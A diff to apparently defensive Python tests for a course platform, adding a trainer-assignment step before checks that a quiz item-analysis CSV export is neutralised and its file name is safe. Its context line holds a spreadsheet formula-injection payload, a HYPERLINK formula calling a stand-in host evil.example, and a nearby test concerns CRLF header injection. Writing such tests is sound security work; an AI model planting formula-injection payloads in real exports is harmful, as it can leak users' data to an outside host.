@@ -100,10 +100,11 @@ QUIZ = THIRDS_QUIZ.replace("## Dễ {#de", '## =HYPERLINK("http://evil.example/?
 
 
 def test_item_analysis_csv_is_neutralised_and_keeps_negative_numbers(
-    app, make_user, auth, client, courses_root, import_folder
+    app, make, make_user, auth, client, courses_root, import_folder
 ):
     seed_attempts(app, courses_root, import_folder, QUIZ)
     make_user("gv@example.vn", role="trainer")
+    make.course_trainer("gv@example.vn", "DE")
     auth.login("gv@example.vn")
     response = client.get("/teach/courses/DE/quizzes/de/items.csv")
     rows = csv_rows(response.data)
@@ -192,9 +193,12 @@ def test_a_unit_code_with_crlf_and_quotes_never_reaches_a_header(world, app, aut
         assert "a=b" not in response.headers.get("Set-Cookie", "")
 
 
-def test_the_item_analysis_file_name_is_safe_too(app, make_user, auth, client, courses_root, import_folder):
+def test_the_item_analysis_file_name_is_safe_too(
+    app, make, make_user, auth, client, courses_root, import_folder
+):
     import_folder(write_course(courses_root, "de", code="DE", lessons={"01-de.md": QUIZ}))
     make_user("gv@example.vn", role="trainer")
+    make.course_trainer("gv@example.vn", "DE")
     auth.login("gv@example.vn")
     header = client.get("/teach/courses/DE/quizzes/de/items.csv").headers["Content-Disposition"]
     assert header == "attachment; filename=\"DE-de-items.csv\"; filename*=UTF-8''DE-de-items.csv"
